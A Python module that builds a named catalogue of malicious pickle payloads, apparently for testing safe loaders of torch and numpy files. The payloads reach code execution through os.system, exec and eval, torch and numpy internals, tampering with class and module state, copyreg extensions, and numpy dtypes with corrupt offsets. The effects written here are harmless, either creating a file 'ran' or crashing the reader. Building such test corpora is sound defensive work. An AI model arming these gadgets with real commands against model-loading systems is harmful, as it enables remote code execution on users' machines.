"""Payloads: values that make a reader run code. All are harmless: they write a file `ran` to the working folder, or crash the
reader.

The values are for `pickler.dump`. Those with a colon in a name, which name attributes of classes, need protocol 4.
"""

from . import opcodes
from .opcodes import built, encoded, named, raw_bytes, then
from .pickler import Call, Name, Raw, dump, stream

TOUCH = "touch ran"
WRITE = "open('ran', 'w').close()"
OS = Call("builtins.__import__", "os")
SYSTEM = Call("os.system", TOUCH)
CODE = Call("builtins.compile", WRITE, "x", "exec")
INNER = Raw(raw_bytes(dump(SYSTEM)))
INNER_STREAM = Raw(raw_bytes(stream(SYSTEM, keys=(), rest=b"")))


def of_python():
    """Calls of Python's own functions."""
    return {
        "os-system": SYSTEM,
        "posix-system": Call("posix.system", TOUCH),
        "os-popen": Call("os.popen", TOUCH),
        "os-spawn": Call("os.spawnlp", 0, "touch", "touch", "ran"),
        "os-mkdir": Call("os.mkdir", "ran"),
        "os-symlink": Call("os.symlink", "nothing", "ran"),
        "exec": Call("builtins.exec", WRITE),
        "eval": Call("builtins.eval", WRITE),
        "python-2-eval": Call("__builtin__.eval", WRITE),
        "function-of-code": Call(Call("types.FunctionType", CODE, Call("builtins.dict"))),
        "open": Call("builtins.open", "ran", "w"),
        "io-open": Call("io.open", "ran", "w"),
        "raw-file": Call("_io.FileIO", "ran", "w"),
        "codecs-open": Call("codecs.open", "ran", "w"),
        "subprocess": Call("subprocess.Popen", ["touch", "ran"]),
        "subprocess-call": Call("subprocess.call", ["touch", "ran"]),
        "python-2-commands": Call("commands.getoutput", TOUCH),
        "pty": Call("pty.spawn", ["touch", "ran"]),
        "runpy": Call("runpy._run_code", CODE, {}),
        "timeit": Call("timeit.timeit", WRITE, "pass", Name("time.perf_counter"), 1),
        "profile": Call("cProfile.run", WRITE, "ran"),
        "pickle-in-pickle": Call("pickle.loads", INNER),
        "pickle-in-pickle-c": Call("_pickle.loads", INNER),
        "logging-file": Call("logging.FileHandler", "ran"),
        "database": Call("sqlite3.connect", "ran"),
        "dumb-database": Call("dbm.dumb.open", "ran", "n"),
        "zip-writer": Call("zipfile.ZipFile", "ran", "w"),
        "tar-writer": Call("tarfile.open", "ran", "w"),
        "copy-file": Call("shutil.copyfile", "/dev/null", "ran"),
        "temporary-file": Call("tempfile.mkstemp", ".x", "ran", "."),
        "pager": Call("pydoc.pipepager", "", "cat > ran"),
        "getattr": Call(Call("builtins.getattr", OS, "system"), TOUCH),
        "method-caller": Call(Call("operator.methodcaller", "system", TOUCH), OS),
        "attribute-getter": Call(Call(Call("operator.attrgetter", "system"), OS), TOUCH),
        "map": Call("builtins.list", Call("builtins.map", Name("os.system"), [TOUCH])),
        "python-2-map": Call("__builtin__.list", Call("itertools.imap", Name("os.system"), [TOUCH])),
        "filter-in-set": Call("builtins.set", Call("builtins.filter", Name("os.system"), [TOUCH])),
        "partial": Call(Call("functools.partial", Name("os.system"), TOUCH)),
        "partial-with-state": Call(Call("functools.partial", Name("builtins.int"), state=(Name("os.system"), (TOUCH,), {}, None))),
        "crash": Call("ctypes.string_at", 1),
        "missing-key": Call(Call("builtins.getattr", Call("collections.defaultdict", Call(
            "functools.partial", Name("os.system"), TOUCH)), "__missing__"), 1),
    }


def of_torch():
    """Calls of functions in torch and numpy that write files, run code, or read other pickles."""
    return {
        "torch-save": Call("torch.save", 1, "ran"),
        "torch-serialization-save": Call("torch.serialization.save", 1, "ran"),
        "load-from-bytes": Call("torch.storage._load_from_bytes", INNER_STREAM),
        "legacy-load": Call("torch.serialization._legacy_load", Call("_io.BytesIO", INNER_STREAM), None,
                            Call("builtins.__import__", "pickle")),
        "torch-from-file": Call("torch.from_file", "ran", True, 16),
        "collect-env": Call("torch.utils.collect_env.run", TOUCH),
        "jit-wrapper": Call("torch.jit.unsupported_tensor_ops.execWrapper", WRITE, {}, {}),
        "from-type": Call("torch._tensor._rebuild_from_type_v2", Name("os.system"), Name("torch.Tensor"), (TOUCH,), {}),
        "from-type-exec": Call("torch._tensor._rebuild_from_type_v2", Name("builtins.exec"), Name("torch.Tensor"), (WRITE,), {}),
        "package-exporter": Call("torch.package.PackageExporter", "ran"),
        "numpy-save": Call("numpy.save", "ran", 1),
        "numpy-memmap": Call("numpy.memmap", "ran", "uint8", "w+", 0, (4,)),
        "numpy-runstring": Call("numpy.testing._private.utils.runstring", WRITE, {}),
        "numpy-load": Call("numpy.load", Call("_io.BytesIO", INNER), None, True),
    }


def of_nesting():
    """Attributes of classes and modules whose own names are plain. Protocol 4 resolves the points in names."""
    return {
        "untyped-from-file": Call("torch.storage:UntypedStorage.from_file", "ran", True, 16),
        "legacy-from-file": Call("torch:FloatStorage.from_file", "ran", True, 4),
        "functions-from-file": Call("torch:_VF.from_file", "ran", True, 16),
        "os-of-serialization": Call("torch.serialization:os.system", TOUCH),
        "system-of-collections": Call(Call(Call("operator.attrgetter", "system"), Call(
            "collections:_sys.modules.__getitem__", "os")), TOUCH),
        "call-of-function": Call("os:system.__call__", TOUCH),
        "pickle-of-tools": Call("pickletools:pickle.loads", INNER),
        "array-to-file": Call("numpy:ndarray.tofile", Call("numpy.zeros", 4), "ran"),
        "globals-of-plain": Call(Call("builtins.getattr", Call("torch.serialization:_get_layout.__globals__.__getitem__", "os"),
                                      "system"), TOUCH),
        "builtins-of-plain": Call(Call("torch._utils:_rebuild_tensor_v2.__builtins__.__getitem__", "exec"), WRITE),
        "path-of-method": Call("pathlib:Path.touch", Call("pathlib.Path", "ran")),
    }


def of_state():
    """Changes of existing classes, functions and modules by BUILD, SETITEM and APPEND, with plain names alone."""
    size = named("torch.Size")
    return {
        "class-attribute": Raw(built(named("argparse.Namespace"), (None, {"__eq__": size}))),
        "class-attribute-storage": Raw(built(named("torch.storage.UntypedStorage"), (None, {"__len__": size}))),
        "class-attribute-counter": Raw(built(named("collections.Counter"), (None, {"most_common": size}))),
        "function-defaults": Raw(built(named("torch._utils._rebuild_tensor_v2"), (
            None, {"__defaults__": opcodes.items(1, 2, 3)}))),
        "function-dictionary": Raw(built(named("torch._utils._rebuild_tensor_v2"), {"__wrapped__": 1})),
        "module-attribute": Raw(built(opcodes.call("builtins.__import__", "torch"), {"load": named("os.system")})),
        "builtins-attribute": Raw(built(opcodes.call("builtins.__import__", "builtins"), {"ran": 1})),
        "modules-entry": Raw(named("sys.modules") + opcodes.text("torch.ran") + named("os.system") + b"s0N"),
        "environment": Raw(named("os.environ") + opcodes.text("RAN") + opcodes.text("1") + b"s0N"),
        "search-path": Raw(named("sys.path") + opcodes.text("/ran") + b"a0N"),
        "registry-of-torch": Raw(named("torch.serialization._package_registry") + opcodes.items(
            0, named("os.system"), named("os.system")) + b"a0N"),
        "partial-state": Call(Call("functools.partial", Name("torch.Size"), state=(Name("os.system"), (TOUCH,), {}, None))),
    }


def of_registry():
    """Calls of a function from the registry of extensions, to which the pickle itself adds it."""
    add = opcodes.call("copyreg.add_extension", "os", "system", 7)
    far = opcodes.call("copyreg.add_extension", "os", "system", 70000)
    return {
        "extension-1": Raw(then(add, b"\x82\x07" + opcodes.items(TOUCH) + b"R")),
        "extension-2": Raw(then(add, b"\x83\x07\x00" + opcodes.items(TOUCH) + b"R")),
        "extension-4": Raw(then(far, b"\x84\x70\x11\x01\x00" + opcodes.items(TOUCH) + b"R")),
    }


# MARK: numpy


OBJECT = (3, "|", None, None, None, -1, -1, 63)


def array_type(letter="f8", state=(3, "<", None, None, None, -1, -1, 0)):
    """`numpy.dtype(letter)`, with a state as in its pickle."""
    return Call("numpy.dtype", letter, False, True, state=state)


def array(kind, values, shape=(1,), module="numpy.core.multiarray"):
    """An array as numpy pickles it."""
    return Call(f"{module}._reconstruct", Name("numpy.ndarray"), (0,), Raw(encoded(b"b")), state=(1, shape, kind, False, values))


def wild_type(offset=2**30, inner="O8", flags=0, size=8):
    """A structured type whose only field is at a wrong offset."""
    field = array_type(inner, OBJECT) if inner == "O8" else array_type(inner)
    return array_type(f"V{size}", (3, "|", None, ("a",), {"a": (field, offset)}, size, 1, flags))


def of_numpy():
    """Arrays of objects, and types whose state refers to places outside of the values."""
    raw = Raw(encoded(b"\0" * 8))
    found = {
        "object-array": array(array_type("O8", OBJECT), [SYSTEM]),
        "object-scalar": Call("numpy.core.multiarray.scalar", array_type("O8", OBJECT), SYSTEM),
        "object-pointer": Call("numpy.core.multiarray.scalar", array_type("O8", (3, "|", None, None, None, -1, -1, 0)),
                               Raw(encoded(b"\x08" + b"\0" * 7))),
        "object-array-pointers": array(array_type("O8", (3, "|", None, None, None, 8, 8, 0)), Raw(encoded(b"\x08" + b"\0" * 7))),
    }
    for inner, offset in (("O8", 2**30), ("f8", 2**30), ("f8", -(2**30)), ("f8", 2**31 - 8)):
        kind = wild_type(offset, inner)
        name = f"wild-{inner}{'-minus' if offset < 0 else ''}{'-far' if offset > 2**30 else ''}"
        found[f"{name}-scalar"] = Call("numpy.core.multiarray.scalar", kind, raw)
        found[f"{name}-array"] = array(kind, raw)
        found[f"{name}-empty"] = Call("numpy.ndarray", (4,), kind)
        found[f"{name}-counted"] = Call("numpy.ndarray", (4,), wild_type(offset, inner, 27))
    return found


def everything():
    """Every payload that protocol 2 can express, by name. Those of `of_nesting` need protocol 4."""
    return {**of_python(), **of_torch(), **of_state(), **of_registry(), **of_numpy()}
